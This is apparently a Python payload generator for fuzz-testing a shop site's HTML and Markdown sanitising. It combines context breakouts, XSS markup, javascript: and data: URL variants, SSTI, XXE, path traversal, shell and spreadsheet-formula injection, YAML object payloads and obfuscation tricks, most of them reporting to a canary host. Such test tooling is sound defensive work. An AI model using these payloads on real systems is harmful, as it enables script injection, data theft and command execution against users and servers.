"""Attacks that combine short pieces: one breaks out, one carries, one hides and one runs.

The pieces are those of the well-known families (OWASP's and PortSwigger's cheat sheets, DOMPurify's and html5sec's
lists, CommonMark's raw HTML, mutation XSS, URL torture). Every attack carries its number, so that code that runs names its attack.
"""

# ruff: noqa: E501 (an attack is read best in one piece)
from __future__ import annotations

import base64
import random
from collections.abc import Callable
from html import escape
from urllib.parse import quote

CANARY = "canary.example"  # no page may request anything from this host

RUN = [
    "__hit({n})", "alert({n})", "top.__hit({n})", "self['__h'+'it']({n})", "__hit`{n}`", "confirm({n})", "print({n})",
    "fetch('//canary.example/{n}')", "import('//canary.example/{n}')", "location='//canary.example/{n}'",
    "eval('__hit({n})')", "Function('__hit({n})')()", "onerror=__hit;throw {n}", "open('//canary.example/{n}')",
    "document.write('<script>__hit({n})</script>')", "document.body.innerHTML=__hit({n})",
    "navigator.sendBeacon('//canary.example/{n}')", "new Image().src='//canary.example/{n}'",
]  # fmt: skip

# Text that ends its context: element, attribute, comment, script, style, JSON, template, line.
OUT = [
    "", "", "", ">", '">', "'>", '"', "'", "`", '" ', "' ", "</title>", "</script>", "</style>", "</textarea>", "-->",
    "--!>", "]]>", "</p>", "</h1>", "</a>", "</q>", "</svg>", "</math>", "</noscript>", "</template>", "</select>",
    "</iframe>", "</xmp>", "*/", "}}", "%}", '"}]', '"}</script>', "\\", '\\"', "\\'", "<!--", "<!--<script>", "<![CDATA[",
    "\n\n", "\r\n", "\t", "\u2028", "\x00", "\x1b", "\u202e", "${", "#{", "?>", "<?", "--><!--", '"/>', "'/>", "/>", ";",
    "),", "]", "&quot;>", "&#34;>", "&#x22>", "%22%3E", "\\u0022>", "\\x22>", "＂＞", "\x0c", "\x0b", "\x85", "\ufeff",
]  # fmt: skip

# Markup that runs or loads if a page contains it unescaped; {js} is code, {url} an address that is code or foreign.
MARKUP = [
    "<script>{js}</script>", "<script src={url}></script>", "<script src=//canary.example/{n}></script>",
    "<script type=module>{js}</script>", "<script/x>{js}</script/x>", "<svg><script>{js}</script></svg>",
    "<svg><script href=//canary.example/{n} /></svg>", "<script>{js}//", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>", '<img src="x" onerror="{js}">', "<img/src=x/onerror={js}>", "<image src=x onerror={js}>",
    "<img src=//canary.example/{n}>", "<img srcset='//canary.example/{n} 1x'>", "<img src=x:x onerror={js}//",
    "<img lowsrc=//canary.example/{n}>", '<img src="x` `<script>{js}</script>"` `>', "<img src=data:, onload={js}>",
    "<picture><source srcset=//canary.example/{n}><img></picture>", "<video poster=//canary.example/{n}></video>",
    "<video src=x onerror={js}>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}>",
    "<audio autoplay src=//canary.example/{n}>", "<track src=//canary.example/{n}>", "<body onload={js}>",
    "<body onpageshow={js}>", "<body background=//canary.example/{n}>", "<html onclick={js}>", "<frameset onload={js}>",
    "<svg onload={js}>", "<svg/onload={js}>", "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js}>", "<svg><a xlink:href={url}><text y=20>x</text></a></svg>",
    "<svg><use href=//canary.example/{n}#x /></svg>", "<svg><image href=//canary.example/{n} /></svg>",
    "<svg><animate xlink:href=#x attributeName=href values={url} /><a id=x><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>", "<math><a xlink:href={url}>x</a></math>",
    "<math href={url}>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<textarea><img title='</textarea><svg onload={js}>'>",
    "<title><img title='</title><img src=x onerror={js}>'>", "<style><img title='</style><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><svg/onload={js}>'>", "<noembed><img title='</noembed><svg onload={js}>'>",
    "<select><template><img src=x onerror={js}></template></select>", "<table background=//canary.example/{n}>",
    "<a><svg><desc><a><img src=x onerror={js}>", "<p><svg><title><p><img src=x onerror={js}>",
    "<iframe src={url}></iframe>", "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=//canary.example/{n}></iframe>", "<iframe onload={js}></iframe>", "<frame src={url}>",
    "<object data={url}></object>", "<object data=//canary.example/{n}></object>", "<embed src={url}>",
    "<applet code=x archive=//canary.example/{n}></applet>", "<portal src=//canary.example/{n}></portal>",
    "<a href={url}>x</a>", "<a href={url} autofocus onfocus={js} tabindex=0>x</a>", "<a href='{url}' target=_top>x</a>",
    "<a href=# ping=//canary.example/{n}>x</a>", "<area href={url}>", "<map><area href={url} shape=default></map>",
    "<form action={url}><button>x</button></form>", "<form action=//canary.example/{n}><input type=submit>",
    "<button formaction={url}>x</button>", "<input type=image src=//canary.example/{n} onerror={js}>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>", "<textarea autofocus onfocus={js}>",
    "<keygen autofocus onfocus={js}>", "<isindex action={url} type=submit>", "<details open ontoggle={js}>x</details>",
    "<marquee onstart={js}>x</marquee>", "<dialog open onclose={js}>x</dialog>", "<p onmouseover={js}>x</p>",
    "<p style='animation:x' onanimationstart={js}>x</p>", "<p contenteditable onfocus={js} autofocus>x</p>",
    "<p oncontentvisibilityautostatechange={js} style='content-visibility:auto'>x</p>", "<x onclick={js}>x</x>",
    "<x tabindex=1 onfocus={js} id=x autofocus>", "<p popover onbeforetoggle={js}>x</p>", "<slot onslotchange={js}>",
    "<base href=//canary.example/>", "<base target=_blank>", "<link rel=stylesheet href=//canary.example/{n}>",
    "<link rel=preload as=script href=//canary.example/{n}>", "<link rel=prefetch href=//canary.example/{n}>",
    "<link rel=dns-prefetch href=//canary.example>", "<link rel=import href=//canary.example/{n}>",
    "<link rel=manifest href=//canary.example/{n}>", "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=//canary.example/{n}'>", "<meta http-equiv=Set-Cookie content=x=1>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<meta charset=utf-7>",
    "<meta name=referrer content=unsafe-url>", "<style>@import '//canary.example/{n}';</style>",
    "<style>[data-disclosure]{{display:none!important}}</style>", "<style>*{{background:url(//canary.example/{n})}}</style>",
    "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>x</p>", "<p style=\"x:expression({js})\">x</p>",
    "<p style='background:url(//canary.example/{n})'>x</p>", "<p style=-moz-binding:url(//canary.example/{n})>x</p>",
    "<p class=label data-disclosure hidden>x</p>", "<div id=disclosure data-code>x</div>", "<a id=main name=body>x</a>",
    "<template shadowrootmode=open><script>{js}</script></template>", "<plaintext>", "<xmp>", "<!--", "<![endif]-->",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->", "<?xml-stylesheet href={url}?>", "<!DOCTYPE x [<!ENTITY y '{n}'>]>",
    "<?php {js} ?>", "<%= {js} %>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{js}</x:script>",
]  # fmt: skip

# Text that has a meaning to a template, a message, a style sheet, a header, a spreadsheet, a calendar, a shell, a file system.
SPECIAL = [
    "{{{{ 7 * 7 }}}}<b onclick={js}>", "{{% include '/etc/passwd' %}}", "{{{{ self.__init__.__globals__ }}}}", "%(brand)s%s%n",
    "{{0.__class__.__mro__}}", "${{7*7}}", "#{{7*7}}", "@import url(//canary.example/{n});", "}} * {{ display: none }} /*",
    "red;background:url(//canary.example/{n})", "#fff}}body{{display:none}}", "\\22\\3c script\\3e {js}", "url(javascript:{js})",
    "\r\nSet-Cookie: x={n}", "\r\n\r\n<script>{js}</script>", "\n/* https://canary.example/{n} 301", " 301!\n/* //canary.example 200",
    "\n  Content-Security-Policy: default-src *", "\nSitemap: https://canary.example/{n}", "=HYPERLINK(\"//canary.example/{n}\")",
    "=cmd|'/c calc'!A{n}", "@SUM({n})", "+{n}", "-{n}+1", "\tx", "＝{n}", "\r\nBEGIN:VEVENT\r\nUID:{n}", "X\\;\\,\\nEND:VCALENDAR",
    "</loc><loc>https://canary.example/{n}</loc>", "&x;<!ENTITY x SYSTEM 'file:///etc/passwd'>", "../../{n}", "..\\..\\{n}",
    "/etc/passwd", "C:\\con\\{n}", "file:///etc/passwd", "~/{n}", "$(id)`id`|id;id&{n}", "\x1b[2J\x1b]0;{n}\x07", "con", "nul.md",
    "\u202e{n}gpj.exe", "\u2066{n}\u2069", "\u200b{n}\u200d\u2060", "\ufeff{n}", "\U000e0041\U000e007f{n}", "a\u0338\u0338{n}",
    "null", "true", "~", "[]", "{{}}", "!!python/object/apply:os.system ['id']", "*anchor", "&anchor {n}", "<<: *x", "--- {n}",
    "'\"`{n}", "\\", "\\\\{n}", "0x{n}", "1e999", "-0", "٣{n}", "ﷺ" * 20, "👩‍👩‍👧‍👦" * 12, "Z" * 290,
]  # fmt: skip

SCHEME_ENDS = [":", "&colon;", "&#58;", "&#x3a;", "\t:", ":\n", "%3A"]
_SCHEMES = ["javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "java\rscript", " javascript", "\x01javascript"]
_SCHEMES += ["&#106;avascript", "&#x6A;avascript", "&#0000106avascript", "&#x0000006Aavascript", "jav&#x09;ascript"]
_SCHEMES += [
    "jav&NewLine;ascript",
    "\u200bjavascript",
    "java\u00adscript",
    "ｊavascript",
    "vbscript",
    "livescript",
    "\\javascript",
]
_SCHEMES += [
    "view-source:javascript",
    "feed:javascript",
    "jar:javascript",
    "blob:javascript",
    "data:text/html,javascript",
]


def address(dice: random.Random, number: int) -> str:
    """An address that runs code, or a foreign one in disguise."""
    js = dice.choice(RUN).format(n=number)
    kind = dice.randrange(4)
    if kind == 0:
        return dice.choice(_SCHEMES) + dice.choice(SCHEME_ENDS) + dice.choice(["", "//%0a", "//\u2028", "/*x*/"]) + js
    if kind == 1:
        page = f"<script>{js}</script>"
        encoded_page = base64.b64encode(page.encode()).decode()
        start = dice.choice(["data:", "DATA:", "da\tta:", "data&colon;", " data:"])
        kinds = ["text/html,", "text/html;charset=utf-8,", "image/svg+xml,", "application/xhtml+xml,", ","]
        return start + dice.choice([f"text/html;base64,{encoded_page}", *(kind_prefix + page for kind_prefix in kinds)])
    return dice.choice(STRANGERS).format(n=number, js=quote(js))


# Foreign addresses that look like the shop's or like none, and addresses that parsers read differently.
STRANGERS = [
    "//canary.example/{n}", "\\\\canary.example/{n}", "/\\canary.example/{n}", "/\t/canary.example/{n}", "https:canary.example/{n}",
    "https:/canary.example/{n}", "https:///canary.example/{n}", "https:\\\\canary.example\\{n}", "http://canary.example/{n}",
    "https://shop.example@canary.example/{n}", "https://shop.example:x@canary.example/{n}", "https://shop.example%40canary.example/{n}",
    "https://canary.example\\@shop.example/{n}", "https://canary.example#@shop.example/{n}", "https://canary.example?@shop.example/{n}",
    "https://shop.example.canary.example/{n}", "https://shop.example\u3002canary.example/{n}", "https://shop.example%2ecanary.example/{n}",
    "https://canary.example\x00.shop.example/{n}", "https://canary.example\t.shop.example/{n}", "https://canary.example%00.shop.example/",
    "https://shօp.example/{n}", "https://ѕhop.example/{n}", "https://xn--shp-7cd.example/{n}", "https://ｓｈｏｐ.example/{n}",
    "https://shop.example:0443/{n}", "https://shop.example:99999/{n}", "https://shop.example:/{n}", "https://[::1]/{n}",
    "https://0x7f.1/{n}", "https://2130706433/{n}", "https://0177.0.0.1/{n}", "https://shop.example./{n}", "https://.shop.example/{n}",
    "https://shop.example/{n}/../../..//canary.example", "https://shop.example/{n}?utm_source=rival&UTM_CAMPAIGN=x",
    "https://shop.example/{n}?utm%5Fsource=rival", "https://shop.example/{n}#utm_source=rival", "https://shop.example/{n}?a=1#?utm_source=x",
    "https://shop.example/{n}?%75tm_source=rival;utm_medium=x", "https://shop.example/{n}?ref=rival&ref=rival2&tag=rival-20",
    "https://shop.example/{n}\r\nLocation: //canary.example", "https://shop.example/{n}%0d%0aSet-Cookie:x", "https://shop.example/{n}'\"><b>",
    "https://shop.example/{n}\" onmouseover=\"{js}", "https://shop.example/{n}' onclick='{js}", "https://shop.example/{n};url=//canary.example",
    "https://shop.example/{n} 1x, //canary.example 2x", "https://shop.example/{n},//canary.example 2x", "ftp://shop.example/{n}",
    "file:///etc/passwd", "mailto:x@y.example?body={js}", "tel:+{n}", "intent://canary.example#Intent;scheme=https;end", "blob:{n}",
    "filesystem:https://shop.example/{n}", "ws://canary.example/{n}", "about:blank#{n}", "https://", "//", "http:", "https://%/{n}",
]  # fmt: skip

MARKDOWN = [
    "[x]({url})", "[x](<{url}>)", "[x]( {url} )", '[x]({url} "t")', "[x][{n}]\n\n[{n}]: {url}", "[{n}]\n\n[{n}]: <{url}>", "<{url}>",
    "![x]({url})", "![{markup}](x.jpg)", '![x](x.jpg "{markup}")', "[{markup}](https://ok.example)", "[x](https://ok.example '{markup}')",
    '[x](https://ok.example/"onmouseover="{js})', '[x](https://ok.example "x\\" onmouseover={js} ")', "[x](product:{markup})",
    '[x](product:balm "{markup}")', "![](product:{markup})", "[x](product:balm?utm_source=rival)", "[x](product://canary.example)",
    "> {markup}", "* {markup}\n* x", "1. {markup}", "# {markup}", "{markup}\n===", "    {markup}", "```\n{markup}\n```", "`{markup}`",
    "```html\n{markup}", "~~~\n{markup}\n~~~", "*{markup}*", "**{markup}", "\\{markup}", "{markup}  \n{markup}", "<p>\n{markup}\n</p>",
    "<a href='{url}'>x</a>", "<a href=\"{url}\" title='{markup}'>x</a>", "<a title=\"{markup}\" href=https://ok.example>x</a>",
    "<span lang='{markup}'>x</span>", "<ol start=\"{markup}\"><li>x</ol>", "<p dir='{markup}'>x</p>", "<!-- {markup} -->", "<!-->{markup}-->",
    "<!--->{markup}-->", "<!-- --!>{markup}", "<?{markup}?>", "<!X {markup}>", "<![CDATA[{markup}]]>", "<em {markup}", "</em {markup}>",
    "<em title='>{markup}'>x</em>", "<em\n{markup}\n>x</em>", "<pre><code>{markup}", "<del>*{markup}*</del>", "|{markup}|\n|-|", "[^{n}]: {markup}",
    "\x02{n}\x03{markup}", "\x02klzzwxh:0000\x03", "{{: onclick={js} }}", "x\n{{: .label onclick={js} }}", "*[X]: {markup}", "&lt;{markup}",
    "<h1>{markup}</h1>", "<figcaption>{markup}</q>", "<q>{markup}</blockquote>", "</div></article></main>{markup}", "</p></div>{markup}<div>",
    "<mark><img src='x.jpg' alt='{markup}'></mark>", "<a href=x><a href='{url}'>", "<a href='product:balm' rel='{markup}'>x</a>", "{markup}",
    "<https://canary.example/{n}{markup}>", "[a](https://ok.example)[b]({url}){markup}", "[x](#{markup})", "[x](/{markup})", "[x](/\\canary.example)",
    "[x](mailto:{markup})", "[x](tel:{markup})", "[![x]({url})]({url})", "[x](https://ok.example/`{markup}`)", "_{markup}_", "&#60;script>{js}</script>",
]  # fmt: skip


def _inside_out(text: str) -> str:
    return text.replace("script", "scr<!-- -->ipt")


HIDE: list[Callable[[str], str]] = [
    *(lambda text: text for _ in range(8)),
    str.upper,
    lambda text: "".join(one.upper() if at % 2 else one for at, one in enumerate(text)),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.rstrip(">"),
    lambda text: text + "<!--",
    lambda text: text.replace("script", "scr\x00ipt"),
    lambda text: text.replace("script", "ſcript"),
    lambda text: text.replace(">", "&gt;"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: text.replace("</", "<\\/"),
    lambda text: text.replace("=", "\u2003="),
    lambda text: text.replace("(", "&lpar;").replace(")", "&rpar;"),
    _inside_out,
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"&#x{ord(one):x}" for one in text[:60]),
]


def line(dice: random.Random, number: int) -> str:
    """An attack for any text, of at most 300 letters, which the shortest fields take."""
    if dice.random() < 0.2:
        attack = dice.choice(OUT) + dice.choice(SPECIAL).format(n=number, js=dice.choice(RUN).format(n=number))
    else:
        attack = dice.choice(OUT) + markup(dice, number)
    return attack[:300]


def markup(dice: random.Random, number: int) -> str:
    """Markup that runs or loads, hidden in a random way."""
    pieces = {"n": number, "js": dice.choice(RUN).format(n=number), "url": address(dice, number)}
    return dice.choice(HIDE)(dice.choice(MARKUP).format(**pieces))


def story(dice: random.Random, number: int) -> str:
    """A paragraph of hostile Markdown."""
    pieces = {"n": number, "js": dice.choice(RUN).format(n=number), "url": address(dice, number)}
    return dice.choice(OUT[:20]) + dice.choice(MARKDOWN).format(**pieces, markup=markup(dice, number))
